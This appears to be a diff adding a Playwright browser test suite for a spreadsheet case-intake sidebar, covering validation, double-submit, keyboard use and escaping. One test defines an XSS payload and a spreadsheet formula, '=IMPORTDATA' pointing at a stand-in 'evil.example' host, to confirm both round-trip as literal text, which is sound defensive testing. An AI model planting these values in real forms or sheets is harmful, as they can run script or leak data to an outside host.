@@ -1,0 +1,167 @@
+/**
+ * The built intake sidebar in Chromium, bridged to the bundle in the emulator: fill and submit, errors
+ * beside fields, a double click saving one case, hostile text round-tripping as literal text, and
+ * keyboard-only use. Screenshots go to test-output/screenshots/.
+ */
+import { mkdirSync } from 'node:fs';
+import * as path from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { clickMenuItem, createWorkspace, Execution, openSpreadsheet, type Workspace } from '../../emulator';
+import { launchChromium } from '../../emulator/browser/chromium';
+import { eventually, type OpenedPage, openBuiltPage } from '../../emulator/browser/page-harness';
+import { createServiceGlobals } from '../../emulator/globals';
+
+jest.setTimeout(40_000);
+const SCREENSHOTS = path.resolve('test-output/screenshots');
+const OWNER = 'lead@governance.example';
+const OPS = 'ana.ops@governance.example';
+const HOSTILE = '<img src=x onerror=alert(1)>';
+const FORMULA = '=IMPORTDATA("https://evil.example/leak")';
+let browser: Browser;
+let opened: OpenedPage | null = null;
+
+beforeAll(async () => {
+  mkdirSync(SCREENSHOTS, { recursive: true });
+  browser = await launchChromium();
+});
+afterEach(async () => {
+  await opened?.close();
+  opened = null;
+});
+afterAll(async () => {
+  await browser?.close();
+});
+
+function tracker() {
+  const ws = createWorkspace({ users: [{ email: OWNER }, { email: OPS }] });
+  const spreadsheetId = ws.createSpreadsheet({ name: 'Tracker', owner: OWNER }).id;
+  ws.shareSpreadsheet(spreadsheetId, OPS);
+  openSpreadsheet(ws, { user: OWNER, spreadsheetId });
+  clickMenuItem(ws, { user: OWNER, spreadsheetId, caption: 'Set up tracker' });
+  return { ws, spreadsheetId };
+}
+
+function casesSheet(ws: Workspace, spreadsheetId: string) {
+  const exec = new Execution(ws, { user: OWNER, authMode: 'FULL', activeSpreadsheetId: spreadsheetId });
+  const { SpreadsheetApp } = createServiceGlobals(exec) as {
+    SpreadsheetApp: GoogleAppsScript.Spreadsheet.SpreadsheetApp;
+  };
+  const cases = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Cases')!;
+  const headers = cases.getRange(1, 1, 1, cases.getLastColumn()).getValues()[0] as string[];
+  return { cases, cell: (row: number, header: string) => cases.getRange(row, headers.indexOf(header) + 1) };
+}
+
+async function open(ws: Workspace, spreadsheetId: string, replyDelayMs = 0): Promise<Page> {
+  opened = await openBuiltPage(browser, ws, {
+    page: 'intake',
+    user: OPS,
+    spreadsheetId,
+    viewport: { width: 300, height: 900 },
+    replyDelayMs,
+  });
+  await opened.page.locator('#intake-form').waitFor();
+  return opened.page;
+}
+
+async function fillValid(page: Page, summary = 'Replica sneakers sold as originals.'): Promise<void> {
+  await page.getByLabel('Market').selectOption('DE');
+  await page.getByLabel('Seller ID').fill('S-4711');
+  await page.getByLabel('LIVE date').fill('2026-11-20');
+  await page.getByLabel('Policy').selectOption('Counterfeit goods');
+  await page.getByLabel('Enforcement action').selectOption('Product removed');
+  await page.getByLabel('Detection source').selectOption('Human review');
+  await page.getByLabel('Automated decision').selectOption('Not automated');
+  await page.getByLabel('Severity').selectOption('P2');
+  await page.getByLabel('Summary').fill(summary);
+  await page.getByLabel(/^Status/).selectOption('New');
+}
+
+test('the form is built from the schema with labelled controls; fill and submit shows the confirmation and the row', async () => {
+  const { ws, spreadsheetId } = tracker();
+  const page = await open(ws, spreadsheetId);
+  const labelled = await page
+    .locator('input, select, textarea')
+    .evaluateAll(
+      (els) =>
+        els.filter((el) => (el as HTMLInputElement).labels && (el as HTMLInputElement).labels!.length > 0)
+          .length,
+    );
+  expect(labelled).toBeGreaterThanOrEqual(10);
+  await page.screenshot({ path: path.join(SCREENSHOTS, 'intake-empty.png'), fullPage: true });
+  await fillValid(page);
+  await page.getByRole('button', { name: 'Save case' }).click();
+  await page.locator('#state-success').waitFor();
+  await expect(page.locator('#success-case').textContent()).resolves.toBe('CB-2026-00001');
+  await page.screenshot({ path: path.join(SCREENSHOTS, 'intake-success.png'), fullPage: true });
+  const { cell } = casesSheet(ws, spreadsheetId);
+  expect(cell(2, 'Seller ID').getValue()).toBe('S-4711');
+  expect(cell(2, 'Created by').getValue()).toBe(OPS);
+  // The form is reset for the next case, keeping the market.
+  await expect(page.getByLabel('Seller ID').inputValue()).resolves.toBe('');
+  await expect(page.getByLabel('Market').inputValue()).resolves.toBe('DE');
+});
+
+test('every kind of invalid input shows its message beside its field, and nothing is saved', async () => {
+  const { ws, spreadsheetId } = tracker();
+  const page = await open(ws, spreadsheetId);
+  await fillValid(page);
+  await page.getByLabel('Seller ID').fill('seller #9');
+  await page.getByLabel('Summary').fill('');
+  await page.getByLabel('Owner').fill('not-an-email');
+  await page.getByLabel('Enforcement action').selectOption('Account suspended');
+  await page.getByLabel(/^Status/).selectOption('Escalated');
+  await page.getByRole('button', { name: 'Save case' }).click();
+  await expect(page.locator('#field-sellerId-error').textContent()).resolves.toMatch(/not a seller ID/);
+  await expect(page.locator('#field-summary-error').textContent()).resolves.toBe('Summary is required');
+  await expect(page.locator('#field-owner-error').textContent()).resolves.toMatch(/not an email address/);
+  await expect(page.locator('#field-restrictionEnd-error').textContent()).resolves.toBe(
+    'Restriction end date is required here',
+  );
+  await expect(page.locator('#field-escalatedTo-error').textContent()).resolves.toBe(
+    'Escalated to is required here',
+  );
+  await expect(page.locator('#field-sellerId').getAttribute('aria-invalid')).resolves.toBe('true');
+  await expect(page.locator('#form-errors').textContent()).resolves.toBe('5 fields need fixing.');
+  await page.screenshot({ path: path.join(SCREENSHOTS, 'intake-errors.png'), fullPage: true });
+  expect(opened?.serverCalls).toEqual(['getIntakeOptions']);
+  expect(casesSheet(ws, spreadsheetId).cases.getLastRow()).toBe(1);
+});
+
+test('a double-clicked submit creates one case (the button is disabled while saving)', async () => {
+  const { ws, spreadsheetId } = tracker();
+  const page = await open(ws, spreadsheetId, 400);
+  await fillValid(page);
+  const save = page.getByRole('button', { name: 'Save case' });
+  await save.dblclick();
+  await expect(save.isDisabled()).resolves.toBe(true);
+  await page.locator('#state-success').waitFor();
+  await eventually(() => opened?.serverCalls.filter((c) => c === 'submitCase').length === 1);
+  expect(casesSheet(ws, spreadsheetId).cases.getLastRow()).toBe(2);
+});
+
+test('hostile text round-trips as literal text in the page and in the cell', async () => {
+  const { ws, spreadsheetId } = tracker();
+  const page = await open(ws, spreadsheetId);
+  await fillValid(page, `${FORMULA} ${HOSTILE}`);
+  await page.getByLabel('Shop name').fill(HOSTILE);
+  await page.getByRole('button', { name: 'Save case' }).click();
+  await page.locator('#state-success').waitFor();
+  await expect(page.locator('img').count()).resolves.toBe(0);
+  const { cell } = casesSheet(ws, spreadsheetId);
+  expect(cell(2, 'Summary').getValue()).toBe(`${FORMULA} ${HOSTILE}`);
+  expect(cell(2, 'Summary').getFormula()).toBe('');
+  expect(cell(2, 'Shop name').getValue()).toBe(HOSTILE);
+});
+
+test('keyboard only: Tab through the fields and Enter submits', async () => {
+  const { ws, spreadsheetId } = tracker();
+  const page = await open(ws, spreadsheetId);
+  await fillValid(page);
+  await page.getByLabel('Summary').focus();
+  await page.keyboard.press('Tab');
+  await expect(page.evaluate(() => document.activeElement?.id)).resolves.toBe('field-evidenceLinks');
+  await page.getByLabel('Seller ID').focus();
+  await page.keyboard.press('Enter');
+  await page.locator('#state-success').waitFor();
+  expect(casesSheet(ws, spreadsheetId).cases.getLastRow()).toBe(2);
+});
